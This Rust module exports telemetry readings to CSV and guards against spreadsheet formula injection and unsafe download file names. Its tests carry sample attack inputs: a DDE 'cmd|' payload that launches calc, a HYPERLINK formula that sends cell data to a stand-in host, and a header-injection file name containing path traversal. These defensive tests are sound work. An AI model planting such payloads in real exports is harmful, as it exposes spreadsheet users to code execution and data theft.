//! Tables in CSV (RFC 4180), for spreadsheets.

use std::borrow::Cow;

use csv::{Terminator, WriterBuilder};
use serde::{Serialize, Serializer};

use super::{Aggregate, Bucket, Reading, Time};

/// Stands before a header: without it a spreadsheet does not take the file for UTF-8.
const BYTE_ORDER_MARK: &str = "\u{feff}";

/// A spreadsheet takes a cell that begins so for a formula, or (`'`) for one that is marked as text.
const NO_TEXT: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// The columns of a reading: the fields of its JSON, but for the mark of a wrong clock.
pub const READING: &[&str] =
    &["device", "metric", "value", "unit", "measured_at", "received_at", "stored_at", "boot", "seq"];
/// The columns of a bucket: the fields of its JSON.
pub const BUCKET: &[&str] = &["from", "to", "min", "max", "mean", "count"];
/// The columns of an aggregate: the fields of its JSON.
pub const AGGREGATE: &[&str] = &["group", "from", "to", "value", "unit", "count"];

/// The cells of a reading.
#[derive(Serialize)]
pub struct ReadingCells<'a> {
    device: Cow<'a, str>,
    metric: Cow<'a, str>,
    value: f64,
    unit: Option<Cow<'a, str>>,
    measured_at: TimeCell,
    received_at: TimeCell,
    stored_at: TimeCell,
    boot: Option<u64>,
    seq: Option<u64>,
}

/// The cells of a bucket.
#[derive(Serialize)]
pub struct BucketCells {
    from: TimeCell,
    to: TimeCell,
    min: f64,
    max: f64,
    mean: f64,
    count: u64,
}

/// The cells of an aggregate.
#[derive(Serialize)]
pub struct AggregateCells {
    group: Option<String>,
    from: TimeCell,
    to: TimeCell,
    value: f64,
    unit: Option<String>,
    count: u64,
}

impl From<Aggregate> for AggregateCells {
    fn from(Aggregate { group, from, to, value, unit, count }: Aggregate) -> Self {
        let cell = |text: String| text_cell(text.into()).into_owned();
        let (group, unit) = (group.map(cell), unit.map(cell));
        Self { group, from: TimeCell(from), to: TimeCell(to), value, unit, count }
    }
}

impl<'a> From<Reading<'a>> for ReadingCells<'a> {
    fn from(reading: Reading<'a>) -> Self {
        let Reading { device, metric, value, unit, measured_at, received_at, stored_at, boot, seq, .. } =
            reading;
        Self {
            device: text_cell(device),
            metric: text_cell(metric),
            value,
            unit: unit.map(text_cell),
            measured_at: TimeCell(measured_at),
            received_at: TimeCell(received_at),
            stored_at: TimeCell(stored_at),
            boot,
            seq,
        }
    }
}

impl From<Bucket> for BucketCells {
    fn from(Bucket { from, to, min, max, mean, count }: Bucket) -> Self {
        Self { from: TimeCell(from), to: TimeCell(to), min, max, mean, count }
    }
}

/// A time; before the year 0 it begins with a minus.
struct TimeCell(Time);

impl Serialize for TimeCell {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let Self(time) = self;
        if time.0.as_second() < YEAR_0 {
            return serializer.serialize_str(&text_cell(time.to_string().into()));
        }
        time.serialize(serializer)
    }
}

/// The beginning of the year 0, in seconds since 1970.
const YEAR_0: i64 = -62_167_219_200;

/// A text with `'` before it where a spreadsheet would run it as a formula, or take a `'` of its own away.
fn text_cell(text: Cow<'_, str>) -> Cow<'_, str> {
    if text.starts_with(NO_TEXT) { format!("'{text}").into() } else { text }
}

/// The header, where there is one, and a line for each row.
///
/// # Panics
/// Never for the cells of this module: they are strings and numbers.
pub fn text<T: Serialize>(header: &[&str], rows: impl Iterator<Item = T>) -> String {
    let mut lines = WriterBuilder::new().has_headers(false).terminator(Terminator::CRLF).from_writer(vec![]);
    if !header.is_empty() {
        lines.write_record(header).expect("writing to memory does not fail");
    }
    rows.for_each(|row| lines.serialize(row).expect("a row is strings and numbers"));
    let bytes = lines.into_inner().expect("writing to memory does not fail");
    let text = String::from_utf8(bytes).expect("rows are UTF-8");
    if header.is_empty() { text } else { format!("{BYTE_ORDER_MARK}{text}") }
}

/// The name of a file with these readings, which needs no escaping anywhere; `readings.csv` where neither is given.
#[must_use]
pub fn file_name(metric: Option<&str>, device: Option<&str>, extension: &str) -> String {
    let named: Vec<_> = [metric, device].into_iter().flatten().collect();
    let named = if named.is_empty() { "readings".to_owned() } else { named.join("-") };
    let safe = |c: char| if c.is_ascii_alphanumeric() || c == '_' { c } else { '-' };
    let safe: String = named.chars().take(MAX_NAME_CHARS).map(safe).collect();
    format!("{safe}.{extension}")
}

/// File systems take 255 bytes.
const MAX_NAME_CHARS: usize = 200;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forms;
    use jiff::Timestamp;
    use store::StoredReading;
    use telemetry::Series;

    fn reading(unit: Option<&str>) -> StoredReading {
        let at = Timestamp::UNIX_EPOCH;
        let reading = telemetry::Reading {
            series: Series::parse("temperature/site-a/lab").unwrap(),
            value: 26.0,
            unit: unit.map(str::to_owned),
            measured_at: at,
            received_at: at,
            boot: unit.map(|_| 7),
            seq: None,
        };
        StoredReading { reading, stored_at: at }
    }

    #[test]
    fn a_field_is_quoted_where_it_would_be_read_otherwise() {
        let at = "1970-01-01T00:00:00.000000Z";
        for (unit, expected) in [
            (None, ""),
            (Some("celsius"), "celsius"),
            (Some("\u{b0}C"), "\u{b0}C"),
            (Some("a,b"), "\"a,b\""),
            (Some("say \"hi\""), "\"say \"\"hi\"\"\""),
            (Some("two\r\nlines"), "\"two\r\nlines\""),
            (Some("=HYPERLINK(\"http://x/\"&A1)"), "\"'=HYPERLINK(\"\"http://x/\"\"&A1)\""),
            (Some("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0"),
            (Some("+1"), "'+1"),
            (Some("-1"), "'-1"),
            (Some("@SUM(A1)"), "'@SUM(A1)"),
            (Some("\t=1"), "'\t=1"),
            (Some("\r=1"), "\"'\r=1\""),
            (Some("'=1"), "''=1"),
            (Some("a=1"), "a=1"),
        ] {
            let readings = [reading(unit)];
            let text = text(&[], readings.iter().map(|reading| cells(reading)));
            let boot = if unit.is_some() { "7" } else { "" };
            let expected = format!("site-a/lab,temperature,26.0,{expected},{at},{at},{at},{boot},\r\n");
            assert_eq!(text, expected);
        }
    }

    fn cells(reading: &StoredReading) -> ReadingCells<'_> {
        Reading::from(reading).into()
    }

    #[test]
    fn names_and_times_that_begin_like_formulas_are_text_and_numbers_stay_numbers() {
        let mut reading = reading(None);
        reading.reading.series = Series::parse("-m/-2-3").unwrap();
        reading.reading.value = -5.5;
        reading.reading.measured_at = "-000044-03-15T12:00:00Z".parse().unwrap();
        let text = text(&[], [cells(&reading)].into_iter());
        assert!(text.starts_with("'-2-3,'-m,-5.5,,'-000044-03-15T12:00:00.000000Z,1970-"), "{text}");
        let bucket = store::Bucket {
            from: reading.reading.measured_at,
            to: Timestamp::UNIX_EPOCH,
            min: -1.0,
            max: -0.5,
            mean: -1e-9,
            count: 2,
        };
        let text = super::text(&[], [BucketCells::from(Bucket::from(&bucket))].into_iter());
        assert_eq!(text, "'-000044-03-15T12:00:00.000000Z,1970-01-01T00:00:00.000000Z,-1.0,-0.5,-1e-9,2\r\n");
    }

    fn sorted<'a>(header: &[&'a str]) -> Vec<&'a str> {
        let mut header = header.to_vec();
        header.sort_unstable();
        header
    }

    /// The names of the fields of a row, as JSON has them.
    fn fields(row: &impl Serialize) -> Vec<String> {
        let value: serde_json::Value = serde_json::from_str(&forms::text(row)).unwrap();
        let mut fields: Vec<_> = value.as_object().unwrap().keys().cloned().collect();
        fields.sort();
        fields
    }

    #[test]
    fn a_header_names_the_columns_as_json_does() {
        assert_eq!(fields(&Reading::from(&reading(None))), sorted(READING));
        let at = Timestamp::UNIX_EPOCH;
        let bucket = store::Bucket { from: at, to: at, min: 1.0, max: 3.5, mean: 2.0, count: 4 };
        assert_eq!(fields(&Bucket::from(&bucket)), sorted(BUCKET));
        let text = text(BUCKET, [BucketCells::from(Bucket::from(&bucket))].into_iter());
        let at = "1970-01-01T00:00:00.000000Z";
        assert_eq!(text, format!("\u{feff}from,to,min,max,mean,count\r\n{at},{at},1.0,3.5,2.0,4\r\n"));
        assert_eq!(super::text(READING, std::iter::empty::<BucketCells>()).lines().count(), 1);
    }

    #[test]
    fn a_file_name_holds_plain_characters_only() {
        for (metric, device, expected) in [
            (None, None, "readings.csv"),
            (Some("temperature"), Some("site-a/rack_1"), "temperature-site-a-rack_1.csv"),
            (Some("temperature"), None, "temperature.csv"),
            (None, Some("a\"; filename=\"../b\r\nx: y"), "a---filename-----b--x--y.csv"),
            (None, Some("\u{e9}"), "-.csv"),
        ] {
            assert_eq!(file_name(metric, device, "csv"), expected);
        }
        assert!(file_name(None, Some(&"x".repeat(1_000)), "ndjson").len() < 255);
    }
}
